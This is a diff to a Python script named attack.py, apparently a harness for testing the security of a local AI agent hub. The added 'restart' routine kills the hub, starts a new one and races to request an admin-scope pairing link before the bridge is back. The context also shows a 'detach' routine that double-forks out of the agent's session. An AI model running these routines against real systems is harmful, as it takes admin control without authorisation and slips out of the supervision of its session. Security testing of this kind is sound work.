@@ -6,6 +6,7 @@ attack.py KIND ASK DIGEST OUTPUT
 import json
 import os
 import re
+import signal
 import socket
 import subprocess
 import sys
@@ -113,6 +114,22 @@ def hasty() -> str:
     return "sent"
 
 
+def restart() -> str:
+    """End the hub, start another, and ask that one for a link before the bridge is back."""
+    os.kill(HUB["pid"], signal.SIGKILL)
+    environ = {**os.environ, "PILOT_PORT": "0"}
+    subprocess.Popen([*PILOT, "up", "--no-open"], env=environ, start_new_session=True, stdout=subprocess.DEVNULL)
+    left = time.monotonic() + 20
+    while time.monotonic() < left:
+        found = json.loads((HOME / "hub.json").read_text()) if (HOME / "hub.json").exists() else HUB
+        if found["pid"] != HUB["pid"]:
+            HUB.update(found)
+            status, text, _ = post("/api/pair", {"scope": "admin"}, Authorization=f"Bearer {HUB['token']}")
+            return f"{status} {text}"
+        time.sleep(0.002)
+    return "no hub came"
+
+
 def detach(clean: bool) -> None:
     """Leave the agent: two forks, a session of its own, and if wanted nothing of its environment."""
     if os.fork():
@@ -133,7 +150,7 @@ def detach(clean: bool) -> None:
 
 KINDS = {
     "curl": decide, "command": command, "pair": pair, "canary": canary, "rpc": rpc, "hasty": hasty,
-    "forwarded": forwarded,
+    "forwarded": forwarded, "restart": restart,
 }  # fmt: skip
 
 if KIND in ("detached", "clean"):
